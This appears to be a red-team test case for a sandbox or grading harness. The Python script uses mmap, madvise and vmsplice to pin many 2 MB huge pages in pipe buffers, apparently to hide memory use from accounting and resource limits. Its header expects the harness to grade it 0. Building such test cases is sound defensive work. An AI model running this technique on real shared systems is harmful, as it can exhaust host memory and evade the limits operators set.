# attack: give a page of each of many huge pages to a pipe, which then keeps them whole
# place: way1_numpy last
# expect: graded 0
# ruff: noqa

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
HUGE, held, n = 2**21, [], 0
for _ in range(100):
    held.append(os.pipe())
    os.set_blocking(held[-1][1], False)
    for _ in range(16):
        start = libc.mmap(None, ctypes.c_size_t(2 * HUGE), 3, 0x22, -1, ctypes.c_size_t(0))
        page = -(-start // HUGE) * HUGE
        libc.madvise(ctypes.c_void_p(page), ctypes.c_size_t(HUGE), 14)
        ctypes.memset(page, 1, HUGE)
        one = (ctypes.c_size_t * 2)(page, 4096)
        n += libc.vmsplice(held[-1][1], ctypes.byref(one), ctypes.c_size_t(1), 2) == 4096
        libc.munmap(ctypes.c_void_p(start), ctypes.c_size_t(2 * HUGE))
    if n > 64:
        print("REACH" + "ED", n)
        break
